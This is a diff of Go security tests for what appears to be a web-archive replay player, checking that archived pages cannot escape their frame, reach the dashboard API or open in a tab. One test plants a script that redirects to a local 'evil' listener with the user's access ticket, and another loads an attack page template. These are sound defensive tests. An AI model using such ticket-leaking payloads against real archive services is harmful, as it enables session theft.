@@ -22,16 +22,16 @@ import (
 func TestAnArchivedPageCannotLeaveItsFrame(t *testing.T) {
 	t.Parallel()
 	slow.Unraced(t, browser.Races)
-	w := newWritten(t)
+	w := newArchived(t)
 	p := w.player(engine(t), "maria")
 	origin := serve(t, p)
 	evil, visitors := listener(t)
 	ticket := p.o.Tickets.Issue("maria", w.Now)
 	var secrets atomic.Int64
 	const page, healthy = "http://www.a.example/", "http://b.example/"
-	at := w.add(w.Page(healthy, htmlHead, "<p id=word>well"), "text/html", 200)
+	at := stamp(w.add(w.Page(healthy, htmlHead, "<p id=word>well"), "text/html", 200))
 	address := func(uri string) string { return fmt.Sprintf("%s/open/%s/%s/%s", origin, ticket, at, uri) }
-	d := replayDashboard(t, address(page), &secrets)
+	d := framed(t, address(page), &secrets)
 	attack, err := os.ReadFile("testdata/attack.html")
 	archivetest.Must(t, err)
 	raw := strings.NewReplacer("{{API}}", d.URL, "{{EVIL}}", evil, "{{TICKET}}", ticket).Replace(string(attack))
@@ -42,7 +42,7 @@ func TestAnArchivedPageCannotLeaveItsFrame(t *testing.T) {
 		`<p id=word>calm<script>{const f = document.createElement("iframe"); f.src = wbinfo.prefix + "id_/http://www.a.example/raw"; document.body.append(f)}</script>`), "text/html", 200)
 
 	b := browser.Open(t, 300, 200)
-	b.Go(d.URL + replaySignIn)
+	b.Go(d.URL + framedSignIn)
 	frame := b.Frame(`window.tries`)
 	var tries map[string]string
 	if err := json.Unmarshal([]byte(frame(`window.tries`)), &tries); err != nil || len(tries) < 30 {
@@ -60,7 +60,7 @@ func TestAnArchivedPageCannotLeaveItsFrame(t *testing.T) {
 		t.Errorf("the API answered %d requests of an archived page", n)
 	}
 	b.Go("about:blank")
-	b.Go(replayDashboard(t, address(healthy), &secrets).URL + replaySignIn)
+	b.Go(framed(t, address(healthy), &secrets).URL + framedSignIn)
 	shows := b.Frame(`location.pathname.startsWith("/w/") && document.getElementById("word")`)
 	if got := shows(`document.getElementById("word").textContent`); got != `"well"` {
 		t.Errorf("the healthy page says %s", got)
@@ -74,18 +74,18 @@ func TestAnArchivedPageCannotLeaveItsFrame(t *testing.T) {
 // The dashboard has the same host name as the player, so that a tab has the same service worker as the frame.
 func TestAnArchivedPageIsNotShownInATab(t *testing.T) {
 	t.Parallel()
-	w := newWritten(t)
+	w := newArchived(t)
 	p := w.player(engine(t), "maria")
 	origin := serve(t, p)
 	evil, visitors := listener(t)
 	ticket := p.o.Tickets.Issue("maria", w.Now)
-	at := w.add(w.Page("http://b.example/", htmlHead, "<p>well<iframe></iframe>"), "text/html", 200)
+	at := stamp(w.add(w.Page("http://b.example/", htmlHead, "<p>well<iframe></iframe>"), "text/html", 200))
 	w.add(w.Page("http://www.a.example/", htmlHead, "<script>location = '"+evil+"/leak?"+ticket+"'</script>"), "text/html", 200)
 	var secrets atomic.Int64
-	d := replayDashboard(t, fmt.Sprintf("%s/open/%s/%s/http://b.example/", origin, ticket, at), &secrets)
+	d := framed(t, fmt.Sprintf("%s/open/%s/%s/http://b.example/", origin, ticket, at), &secrets)
 
 	b := browser.Open(t, 300, 200)
-	b.Go(strings.Replace(d.URL, "127.0.0.1", "localhost", 1) + replaySignIn)
+	b.Go(strings.Replace(d.URL, "127.0.0.1", "localhost", 1) + framedSignIn)
 	b.Wait(`frames.length === 1 && frames[0].length === 1`) // the archived page, which has a frame, is shown
 	for _, path := range []string{"/w/" + ticket + "/" + at + "mp_/", "/open/" + ticket + "/" + at + "/"} {
 		b.Go(origin + path + "http://www.a.example/")
